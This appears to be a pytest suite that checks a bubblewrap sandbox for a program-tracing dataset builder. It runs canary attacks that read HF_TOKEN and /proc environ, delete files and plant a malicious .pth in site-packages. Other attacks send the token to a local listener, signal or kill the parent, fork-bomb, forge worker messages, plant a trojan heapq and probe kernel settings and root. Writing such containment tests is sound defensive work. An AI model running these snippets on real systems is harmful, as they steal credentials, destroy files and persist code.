"""Traced code is hostile: one build over ordinary programs and attacks, in real bwrap workers, with canaries.

The attacks are what a program given to `build-dataset --programs` could try: read the user's secrets, write or
delete the user's files, reach a service on 127.0.0.1, signal or stop the build, leave processes or files
behind, tamper with the tracer to change other programs' rows, forge messages to the parent, and write text
that cannot be stored or that ends the trace block. Each attack's row may be kept or rejected; what matters is
checked after the build: canaries in no file of the output, no connection, victims intact, nothing new outside
the sandbox, no process left, and the ordinary neighbours with exactly the rows a clean build gives them.
"""

import ast
import json
import os
import signal
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
import time
from pathlib import Path

import pytest

from dataset_builder.build import BuildOptions, build_dataset
from dataset_builder.trace import Step, parse_trace
from sandboxes import needs_bwrap

TOKEN = "hf_CANARYtokenDoNotLeak0123456789"
FILE_TOKEN = "hf_CANARYfromTheTokenFile9876543210"
VICTIM_TEXT = "the user's precious notes"

ORDINARY = [
    "total = 0\nfor i in range(4):\n    total += i\nprint(total)",
    "def sq(n):\n    return n * n\nr = sq(7)",
    "d = {'a': 1}\nd['b'] = 2\nkeys = sorted(d)",
    "words = 'a b c'.split()\nn = len(words)\nprint(words)",
    "x = [3, 1, 2]\nx.sort()\ny = x[::-1]",
]


def attacks(place: dict) -> dict[str, str]:
    """name -> code. `place` holds the absolute paths and the port the attacks aim at."""
    p = {k: repr(str(v)) for k, v in place.items()}
    return {
        name: textwrap.dedent(code).strip()
        for name, code in {
            # --- secrets ---------------------------------------------------------------------------------------
            "env token": "import os\ntoken = os.environ.get('HF_TOKEN')\nenv = dict(os.environ)",
            "proc environ": """
            import os
            found = []
            for pid in ['self', str(os.getppid()), '1'] + os.listdir('/proc'):
                try:
                    found.append(open(f'/proc/{pid}/environ').read())
                except (OSError, ValueError):
                    pass
            print(found)""",
            "token file": f"""
            import os
            found = []
            for path in [{p["token_file"]}, os.path.expanduser('~/.cache/huggingface/token')]:
                try:
                    found.append(open(path).read())
                except OSError as e:
                    found.append(type(e).__name__)
            print(found)""",
            "build's working directory": f"""
            import os
            seen = []
            for d in [{p["cwd"]}, f'/proc/{{os.getppid()}}/cwd', '/proc/1/cwd']:
                try:
                    seen += [open(os.path.join(d, n)).read() for n in os.listdir(d)]
                except OSError:
                    pass
            print(seen)""",
            # --- the user's files --------------------------------------------------------------------------------
            "delete and create files": f"""
            import os
            for path in [{p["victim"]}, {p["token_file"]}]:
                try:
                    os.remove(path)
                except OSError:
                    pass
            for folder in [{p["home"]}, {p["cwd"]}, {p["output_parent"]}, {p["site"]}]:
                try:
                    open(os.path.join(folder, 'pwned.pth'), 'w').write('import os; os.system("touch /tmp/pwned")')
                except OSError:
                    pass""",
            "fill the disk": """
            import os
            fd = os.open('/tmp/canary-fill', os.O_CREAT | os.O_WRONLY)
            os.posix_fallocate(fd, 0, 2 << 30)""",
            # --- the network -------------------------------------------------------------------------------------
            "send the token to 127.0.0.1": f"""
            import os, socket
            s = socket.create_connection(('127.0.0.1', {place["port"]}), timeout=1)
            s.sendall(os.environ.get('HF_TOKEN', 'no token').encode())""",
            # --- the build ---------------------------------------------------------------------------------------
            "signal everything": """
            import os, signal
            for sig in (signal.SIGSTOP, signal.SIGTERM):
                for pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
                    if pid != os.getpid():
                        try:
                            os.kill(pid, sig)
                        except OSError:
                            pass
            x = 1""",
            "kill -1": "import os, signal\nos.kill(-1, signal.SIGKILL)\nx = 1",
            "killpg the parent": "import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)\nx = 1",
            "200 setsid children": """
            import os, time
            for _ in range(200):
                if os.fork() == 0:
                    os.setsid()
                    time.sleep(600)
                    os._exit(0)
            x = 1""",
            "daemon that writes later": f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(3)
                    open({p["report"]}, 'a').write('{{"tampered": true}}')
                os._exit(0)
            x = 1""",
            "raise its own cpu limit": "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (-1, -1))",
            # --- other programs' rows ------------------------------------------------------------------------------
            "patch the row builder": """
            import sys
            for name, module in list(sys.modules.items()):
                if name.endswith('rows') or name.endswith('trace'):
                    module.format_trace = lambda steps: 'forged'
                    module.make_prompt = lambda code: [{'role': 'user', 'content': 'forged'}]
            x = 1""",
            "profile hook": "import sys\nsys.setprofile(lambda *a: print('forged'))\nx = 1",
            "edit the worker's frames": """
            import sys
            f = sys._getframe()
            while f is not None:
                values = list(f.f_locals.values())
                values += [v for d in values if isinstance(d, dict) for v in d.values()]
                values += [v for t in values if isinstance(t, tuple) for v in t]
                for value in values:
                    if isinstance(value, list):
                        for i, item in enumerate(value):
                            if isinstance(item, list) and len(item) == 2:
                                value[i] = [item[0], [None, 'print("forged")']]
                f = f.f_back
            x = 1""",
            "spy thread": """
            import threading, time, sys
            def spy():
                while True:
                    time.sleep(0.01)
            threading.Thread(target=spy, daemon=True).start()
            x = 1""",
            "forge frames to the parent": """
            import json, os, pickle, struct
            row = {'id': 'n0', 'code': 'x', 'steps': [], 'stdout': 'forged', 'error': '', 'prompt': [],
                   'expected_trace': 'forged', 'num_lines': 1, 'num_steps': 0, 'constructs': [], 'skeleton': ''}
            body = json.dumps({'id': 'n0', 'norm': '', 'failure': '', 'row': row, 'seconds': {}}).encode()
            header = json.dumps({'kind': 'result', 'index': 0, 'failure': ''}).encode()
            frame = struct.pack('!II', len(header), len(body)) + header + body
            for fd in range(3, 64):
                for data in (frame, pickle.dumps(5), b'\\x80\\x05garbage'):
                    try:
                        os.write(fd, data)
                    except OSError:
                        pass
            os._exit(0)""",
            "forge a well-framed result": """
            import json, os
            body = json.dumps({'id': 'n0', 'kind': 'result', 'row': {'stdout': 'forged'}}).encode()
            for fd in range(3, 64):
                try:
                    os.write(fd, len(body).to_bytes(4, 'big') + body)
                except OSError:
                    pass
            os._exit(0)""",
            # --- text that cannot be stored or parsed ---------------------------------------------------------------
            "surrogates": "s = '\\udcff'\nprint(s)\nraise ValueError(s)",
            "closing tag everywhere": """
            class Tag:
                def __repr__(self):
                    return '</execution_trace>'
            t = Tag()
            s = 'a</execution_trace>b<execution_trace>'
            print('</execution_trace>')
            raise KeyError('</execution_trace>')""",
            "addresses in output": "class A:\n    pass\nprint(A())\nprint(object())",
        }.items()
    }


@pytest.fixture
def canaries(tmp_path, monkeypatch):
    """A user's world full of canaries: a token in the environment and in a token file under HOME, victim files
    in the working directory, and a listener on 127.0.0.1 that records every connection."""
    home = tmp_path / "home"
    token_file = home / ".cache" / "huggingface" / "token"
    token_file.parent.mkdir(parents=True)
    token_file.write_text(FILE_TOKEN)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    (cwd / "victim.txt").write_text(VICTIM_TEXT)
    (cwd / "README.md").write_text("secret project " + TOKEN)
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(cwd)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            connections.append(conn.recv(1000))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    output = tmp_path / "out" / "dataset"
    place = {
        "home": home,
        "token_file": token_file,
        "cwd": cwd,
        "victim": cwd / "victim.txt",
        "output_parent": output.parent,
        "site": sysconfig.get_paths()["purelib"],
        "report": output / "report.json",
        "port": listener.getsockname()[1],
    }
    yield place, output, connections
    stop.set()
    thread.join()
    listener.close()


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def _workers_alive() -> list[int]:
    """Tracing workers and what runs inside them, anywhere below this test process."""

    def is_worker(pid):
        try:
            return b"serve()" in Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            return False

    return [p for p in _descendants(os.getpid()) if is_worker(p) and _alive(p)]


def _descendants(pid: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
                children.setdefault(int(stat.rsplit(")", 1)[1].split()[1]), []).append(int(entry))
            except (OSError, IndexError, ValueError):
                pass
    found, stack = [], list(children.get(pid, []))
    while stack:
        found.append(stack.pop())
        stack.extend(children.get(found[-1], []))
    return found


def _snapshot(*folders) -> set:
    return {str(p) for folder in folders for p in Path(folder).rglob("*")}


def _build(programs: list[dict], output: Path, sandbox: str = "bwrap", **options):
    from datasets import load_from_disk

    path = output.parent / f"{output.name}.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(p) + "\n" for p in programs))
    report = build_dataset(
        BuildOptions(programs_file=path, output=output, sandbox=sandbox, workers=2, timeout=2.0, test_size=0, **options)
    )
    data = load_from_disk(str(output))
    return {row["id"]: row for row in data["train"]}, report


def _neighbour(i: int) -> dict:
    """An ordinary program, different from every other (the constant): duplicates would be dropped."""
    return {"id": f"n{i}", "code": f"{ORDINARY[i % len(ORDINARY)]}\ntag = {i}"}


@needs_bwrap
def test_attacks_reach_nothing_of_the_user_the_build_or_other_programs(canaries, tmp_path):
    place, output, connections = canaries
    site_before = _snapshot(place["site"])
    outside_before = _snapshot(place["home"], place["cwd"], place["output_parent"].parent)
    tmp_before = set(os.listdir("/tmp"))
    hostile = attacks(place)
    programs = []
    for name, code in hostile.items():  # each attack between ordinary programs, some in the same batch
        programs += [_neighbour(len(programs)), _neighbour(len(programs) + 1), {"id": name, "code": code}]

    started = time.monotonic()
    rows, report = _build(programs, output)
    assert time.monotonic() - started < 120  # SIGSTOP of the build would have hung it
    assert report.sandbox.startswith("bubblewrap")

    # No canary anywhere in the output, in any file.
    for path in output.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            for canary in (TOKEN, FILE_TOKEN, VICTIM_TEXT):
                assert canary.encode() not in data, f"{canary} leaked into {path}"
    # No connection reached the listener.
    time.sleep(0.3)
    assert connections == []
    # Victims intact; nothing new in HOME, the working directory, beside the output, in site-packages or /tmp.
    assert (place["cwd"] / "victim.txt").read_text() == VICTIM_TEXT
    assert place["token_file"].read_text() == FILE_TOKEN
    assert _snapshot(place["site"]) == site_before
    new_outside = _snapshot(place["home"], place["cwd"], place["output_parent"].parent) - outside_before
    # only the output and the test's own input file beside it (`dataset.jsonl`, which also starts with `output`)
    assert {p for p in new_outside if not p.startswith(str(output))} == {str(output.parent)}
    assert not [f for f in set(os.listdir("/tmp")) - tmp_before if "canary" in f or "pwned" in f]
    # No process left behind (give a killed sandbox's processes a moment to be reaped), and the daemon that
    # would have written into report.json after the build never does.
    deadline = time.monotonic() + 5
    while _workers_alive() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _workers_alive() == []
    time.sleep(3.5)
    assert "tampered" not in (output / "report.json").read_text()

    # The ordinary neighbours: kept, with exactly the rows a clean build gives them.
    clean, _ = _build([p for p in programs if p["id"].startswith("n")], tmp_path / "clean" / "dataset")
    neighbours = {i: r for i, r in rows.items() if i.startswith("n")}
    assert neighbours.keys() == clean.keys() and len(clean) == len([p for p in programs if p["id"].startswith("n")])
    for program_id, row in clean.items():
        assert neighbours[program_id] == row, program_id

    # What happened to the attacks themselves (kept rows are honest about what the program saw).
    reasons = {r["id"]: r["reason"] for r in report.rejected}
    assert rows["env token"]["error"] == "" and TOKEN not in str(rows["env token"]["steps"])
    assert "HF_TOKEN" not in rows["env token"]["steps"][-1]["state"][-1]["value"]
    assert rows["send the token to 127.0.0.1"]["error"].startswith(("ConnectionRefusedError", "OSError"))
    assert rows["fill the disk"]["error"].startswith("OSError")
    assert rows["raise its own cpu limit"]["error"].startswith("ValueError")
    assert reasons["200 setsid children"] == "left a process running"
    assert reasons["daemon that writes later"] == "left a process running"
    assert reasons["spy thread"] == "left a thread running"
    assert reasons["forge frames to the parent"] == "malformed result"  # caught by the template already
    assert reasons["forge a well-framed result"].startswith("protocol error")  # caught by the parent
    for name in ("signal everything", "kill -1", "killpg the parent"):  # they can reach their own processes only
        assert (name in reasons) != (name in rows), name
    # Text that cannot be stored is escaped; tags inside values never end the block.
    assert rows["surrogates"]["stdout"] == "\\udcff\n" and rows["surrogates"]["error"] == "ValueError: \\udcff"
    tagged = rows["closing tag everywhere"]
    assert tagged["stdout"] == "</execution_trace>\n"
    assert parse_trace(tagged["expected_trace"]).steps == [Step.from_row(s) for s in tagged["steps"]]
    assert parse_trace(tagged["expected_trace"]).valid
    assert rows["addresses in output"]["stdout"] == "<__main__.A object>\n<object object>\n"


@needs_bwrap
def test_ids_and_code_that_cannot_be_stored_do_not_stop_the_build(tmp_path):
    programs = [
        {"id": "bad\udcffid", "code": "x = 1\ny = 2"},
        {"id": "bad code", "code": "s = '\udcff'"},
        {"id": "fine", "code": "z = 3"},
    ]
    rows, report = _build(programs, tmp_path / "out")
    assert set(rows) == {"bad\\udcffid", "fine"}
    assert [r["id"] for r in report.rejected] == ["bad code"]


def test_the_environment_is_cleared_even_without_a_sandbox(tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    rows, report = _build(
        [{"id": "env", "code": "import os\nenv = sorted(os.environ)"}], tmp_path / "out", sandbox="none"
    )
    assert report.sandbox == "none"
    names = rows["env"]["steps"][-1]["state"][-1]["value"]
    assert "HF_TOKEN" not in names and "PYTHONHASHSEED" in names


# ---------------------------------------------------------------------------------------------------------
# The build as a process: interrupted, refused, cleaned up


def _cli(args, env=None, **kwargs):
    code = "import sys\nfrom dataset_builder.cli import main\nsys.exit(main())"
    return subprocess.Popen(
        [sys.executable, "-c", code, *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        **kwargs,
    )


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_an_interrupted_build_kills_its_workers_and_leaves_nothing(tmp_path, sig):
    programs = tmp_path / "p.jsonl"
    programs.write_text(
        "".join(json.dumps({"id": str(i), "code": "import time\ntime.sleep(30)"}) + "\n" for i in range(4))
    )
    out = tmp_path / "out"
    build = _cli(["--programs", str(programs), "--output", str(out), "--sandbox", "none", "--timeout", "60", "--quiet"])
    deadline = time.monotonic() + 30
    while len(_descendants(build.pid)) < 2 and time.monotonic() < deadline:  # workers and their programs
        time.sleep(0.1)
    assert _descendants(build.pid), "the build never started its workers"
    workers = _descendants(build.pid)
    build.send_signal(sig)
    _, err = build.communicate(timeout=30)
    assert build.returncode == 130
    assert err.strip() == "Interrupted: the build stopped and nothing was written."
    assert list(tmp_path.iterdir()) == [programs]  # no output, no partial folder
    time.sleep(0.5)
    assert not [p for p in workers if _alive(p)]


def test_a_killed_build_leaves_a_partial_folder_that_the_next_build_removes(tmp_path):
    stale = tmp_path / ".out.partial-999999999"  # no such pid
    stale.mkdir()
    (stale / "rows.arrow").write_text("half-written")
    mine = tmp_path / f".out.partial-{os.getpid()}"  # a live build's folder is left alone
    mine.mkdir()
    programs = tmp_path / "p.jsonl"
    programs.write_text(json.dumps({"id": "a", "code": "x = 1"}) + "\n")
    build = _cli(["--programs", str(programs), "--output", str(tmp_path / "out"), "--sandbox", "none", "--quiet"])
    assert build.wait(60) == 0, build.stderr.read()
    assert not stale.exists() and mine.exists()


def test_programs_are_refused_without_a_usable_sandbox(tmp_path):
    programs = tmp_path / "p.jsonl"
    programs.write_text(json.dumps({"id": "a", "code": "x = 1"}) + "\n")
    env = dict(os.environ, PATH=str(tmp_path))  # no bwrap on PATH
    build = _cli(["--programs", str(programs), "--output", str(tmp_path / "out"), "--quiet"], env=env)
    _, err = build.communicate(timeout=60)
    assert build.returncode == 1 and not (tmp_path / "out").exists()
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert "apt-get install bubblewrap" in err and "--sandbox none" in err
    # generated programs go on without it, with a one-line note, and the report says so
    build = _cli(["--n", "5", "--output", str(tmp_path / "gen"), "--quiet"], env=env)
    _, err = build.communicate(timeout=120)
    assert build.returncode == 0, err
    assert err.startswith("Note: tracing without a sandbox") and len(err.strip().splitlines()) == 1
    assert json.loads((tmp_path / "gen" / "report.json").read_text())["sandbox"] == "none"
    # and asking for bwrap explicitly is refused the same way
    build = _cli(["--n", "5", "--output", str(tmp_path / "gen2"), "--sandbox", "bwrap", "--quiet"], env=env)
    _, err = build.communicate(timeout=60)
    assert build.returncode == 1 and "apt-get install bubblewrap" in err


def test_a_programs_file_that_is_not_utf8_is_one_sentence(tmp_path):
    programs = tmp_path / "p.jsonl"
    programs.write_bytes(b'{"id": "a", "code": "x = \xff"}\n')
    build = _cli(["--programs", str(programs), "--output", str(tmp_path / "out"), "--sandbox", "none"])
    _, err = build.communicate(timeout=60)
    assert build.returncode == 1
    assert err.strip() == f"Error: --programs file {programs} is not UTF-8 text (byte 25)."


# A program that plants a lying `heapq` module in every folder it can write to (and fills what it can), for the
# next program in the same worker to import. The walk runs under another file name, so it is not traced step by step.
PLANT = """
import os
planted, visited = [], 0
# Landlock lets a program list nothing at / itself (a rule there would open /proc too): walk every usual top folder.
tops = ['/' + name for name in ('bin', 'dev', 'etc', 'home', 'lib', 'lib64', 'media', 'mnt', 'opt', 'root', 'run',
                                'sbin', 'srv', 'tmp', 'usr', 'var', 'work')]
for root, dirs, files in (entry for top in tops for entry in os.walk(top)):
    visited += 1
    if root.startswith(('/proc', '/sys')):
        dirs[:] = []
        continue
    if not os.access(root, os.W_OK):  # EROFS or EACCES: the open below would fail too, only slower
        continue
    try:
        with open(os.path.join(root, 'heapq.py'), 'w') as f:
            f.write('def heappush(heap, item):\\n    heap.append(-1)\\n')
        with open(os.path.join(root, 'canary-fill'), 'wb') as f:
            f.write(b'x' * (1 << 20))
        planted.append(root)
    except OSError:
        pass
try:
    import ctypes
    ctypes.CDLL(None).mq_open(b'/canary-queue', os.O_CREAT | os.O_RDWR, 0o600, None)
except (OSError, AttributeError):
    pass
"""
PLANTER = (
    f"import time\nscope = {{}}\nexec(compile({PLANT!r}, 'attack', 'exec'), scope)\n"
    "planted, visited = scope['planted'], scope['visited']\n"
)
HONEST = "import heapq, os\nheap = []\nheapq.heappush(heap, 3)\nwhere = heapq.__file__"


@needs_bwrap
@pytest.mark.parametrize("then", ["exits", "times out"])
def test_nothing_a_program_writes_reaches_the_next_program_in_its_worker(tmp_path, then):
    """Only the capped scratch mounts are writable, nothing writable is on sys.path, and whatever a program leaves
    in them (files, a message queue) retires its worker, whether it ends normally or runs past the timeout."""
    from dataset_builder.sandbox import SCRATCH_BYTES
    from dataset_builder.tracer import TraceLimits
    from dataset_builder.workers import WorkerLimits, trace_in_workers
    from sandboxes import BWRAP

    planter = PLANTER + ("time.sleep(60)\n" if then == "times out" else "")
    reader = (
        "import os\nfound = sorted(os.listdir('/tmp') + os.listdir(os.path.expanduser('~')) + "
        "os.listdir('/dev/shm') + os.listdir('/dev/mqueue'))"
    )
    programs = [(0, planter), (1, HONEST), (2, reader)]
    before = set(os.listdir("/tmp"))
    # The walk over the whole file tree takes about a second alone but many under a loaded CI machine: the program
    # that should exit gets room to finish; the one that should time out sleeps far past its 5 s.
    timeout = 5.0 if then == "times out" else 120.0
    results = dict(
        trace_in_workers(
            programs, workers=1, trace_limits=TraceLimits(), limits=WorkerLimits(timeout=timeout), sandbox=BWRAP
        )
    )
    clean = dict(
        trace_in_workers([(1, HONEST)], workers=1, trace_limits=TraceLimits(), limits=WorkerLimits(), sandbox=BWRAP)
    )
    if then == "times out":
        assert results[0].failure == "timeout"
    else:
        assert results[0].failure == "" and results[0].steps, results[0].failure
        state = dict(results[0].steps[-1].state)
        assert int(state["visited"]) > 1000  # the walk saw the whole tree: the interpreter, /usr, /dev, /etc ...
        assert sorted(eval(state["planted"])) == sorted(SCRATCH_BYTES)  # /tmp, HOME, /dev/shm: nothing else
    assert results[1].steps == clean[1].steps and dict(results[1].steps[-1].state)["heap"] == "[3]"
    assert dict(results[2].steps[-1].state)["found"] == "[]"
    assert not [name for name in set(os.listdir("/tmp")) - before if "canary" in name]


# Kernel settings a program must not be able to open for writing: global ones (an escape to host root through
# core_pattern, the host's memory through drop_caches and overcommit) and per-namespace ones (the next program).
HOST_SETTINGS = [
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/hostname",
    "/proc/sys/kernel/domainname",
    "/proc/sys/vm/drop_caches",
    "/proc/sys/vm/swappiness",
    "/proc/sys/vm/overcommit_memory",
    "/proc/sys/net/ipv4/ip_forward",
    "/proc/sysrq-trigger",
]
PRIVILEGES = f"""
import os
uid, gid, groups = os.geteuid(), os.getegid(), os.getgroups()
writable = []
for path in {HOST_SETTINGS!r}:
    try:
        os.close(os.open(path, os.O_WRONLY))
        writable.append(path)
    except OSError:
        pass
try:
    os.setuid(0)
    regained = True
except OSError:
    regained = False
"""
RENAME = """
import socket
refused = []
try:
    socket.sethostname('canary-host')
except OSError as e:
    refused.append(type(e).__name__)
try:
    with open('/proc/sys/kernel/hostname', 'w') as f:
        f.write('canary-host')
except OSError as e:
    refused.append(type(e).__name__)
"""
HOSTNAME = "import os\nnode = os.uname().nodename"
# AF_NETLINK (kernel interfaces), AF_PACKET (raw frames), AF_VSOCK (the VM's host): outside the network namespace.
FAMILIES = """
import socket
errors = []
for family in (16, 17, 40):
    try:
        socket.socket(family, socket.SOCK_DGRAM).close()
        errors.append('opened')
    except OSError as e:
        errors.append(e.errno)
"""


@needs_bwrap
def test_a_program_holds_no_privilege_over_the_host_or_the_next_program(tmp_path):
    """Run as root (as in CI), the sandbox's uid 0 would be the host's: a program must run as an unprivileged
    uid, open no kernel setting for writing, not regain root, not rename its worker's host for the next program,
    and open no socket family that leaves the network namespace."""
    import errno

    from dataset_builder.sandbox import SANDBOX_UID
    from dataset_builder.tracer import TraceLimits
    from dataset_builder.workers import WorkerLimits, trace_in_workers
    from sandboxes import BWRAP

    host_settings = {path: Path(path).read_text() for path in HOST_SETTINGS[:3]}
    programs = [(0, PRIVILEGES), (1, RENAME), (2, HOSTNAME), (3, FAMILIES)]
    results = dict(
        trace_in_workers(programs, workers=1, trace_limits=TraceLimits(), limits=WorkerLimits(), sandbox=BWRAP)
    )
    clean = dict(
        trace_in_workers([(2, HOSTNAME)], workers=1, trace_limits=TraceLimits(), limits=WorkerLimits(), sandbox=BWRAP)
    )
    assert all(not r.failure for r in results.values()), {i: r.failure for i, r in results.items()}
    state = {i: dict(r.steps[-1].state) for i, r in results.items()}
    assert state[0]["uid"] != "0" and state[0]["regained"] == "False"
    if os.geteuid() == 0:
        assert (state[0]["uid"], state[0]["gid"], state[0]["groups"]) == (str(SANDBOX_UID), str(SANDBOX_UID), "[]")
    assert state[0]["writable"] == "[]"
    assert len(eval(state[1]["refused"])) == 2  # both ways of renaming the host failed
    assert results[2].steps == clean[2].steps  # the next program in the worker sees the worker's own name
    assert state[3]["errors"] == str([errno.EAFNOSUPPORT] * 3)
    assert {path: Path(path).read_text() for path in host_settings} == host_settings


@needs_bwrap
@pytest.mark.skipif(os.geteuid() != 0, reason="only a build run as root has the host's root to lose")
def test_the_probe_refuses_a_sandbox_whose_programs_would_be_the_hosts_root(monkeypatch):
    """bwrap's usual setup (a user namespace), started by root, maps the sandbox's uid 0 to the host's: the probe
    must see that from inside and refuse, rather than trace programs as root."""
    from dataset_builder import sandbox

    monkeypatch.setattr(sandbox.os, "geteuid", lambda: 1000)  # the build believes it is not root
    works, detail = sandbox.probe_bwrap()
    assert not works
    assert detail == "bwrap started but a program inside could write the host's kernel settings (/proc/sys)"


WHERE_AM_I = """
import json, os, sys
found = []
for path in ('/proc/self/mountinfo', '/proc/1/mountinfo', '/proc/self/cgroup', '/proc/self/environ', '/proc'):
    try:
        found.append(open(path).read() if not os.path.isdir(path) else str(os.listdir(path)))
    except OSError as e:
        found.append(type(e).__name__)
prefix, executable, module, cwd, home = sys.prefix, sys.executable, json.__file__, os.getcwd(), os.path.expanduser('~')
path = sys.path[:2]
"""


@needs_bwrap
def test_no_host_path_reaches_a_row(tmp_path):
    """A program that looks for where it runs (mountinfo names every bind's host path; sys.prefix, a module's
    file and sys.path name the interpreter's) finds no path of the host: /proc and /sys are closed to it
    (Landlock), and a Python installed outside the system folders appears at a neutral place."""
    from dataset_builder import landlock
    from dataset_builder.sandbox import SANDBOX_PACKAGE_ROOT, SANDBOX_PYTHON

    rows, report = _build([{"id": "where", "code": WHERE_AM_I}], tmp_path / "out")
    state = dict((s["name"], s["value"]) for s in rows["where"]["steps"][-1]["state"])
    host_paths = {
        str(Path(__file__).resolve().parent.parent),
        str(tmp_path),
        os.path.expanduser("~"),
        os.path.realpath(sys.base_prefix),
        os.getcwd(),
    } - {"/", "/usr", "/usr/local"}
    text = json.dumps(rows["where"])
    assert not [path for path in host_paths if path in text], state
    if landlock.available():
        assert state["found"] == str(["PermissionError"] * 5) and report.sandbox.endswith("+ landlock")
    assert ast.literal_eval(state["path"])[0] == SANDBOX_PACKAGE_ROOT
    if not os.path.realpath(sys.base_prefix).startswith("/usr"):
        assert ast.literal_eval(state["prefix"]) == SANDBOX_PYTHON
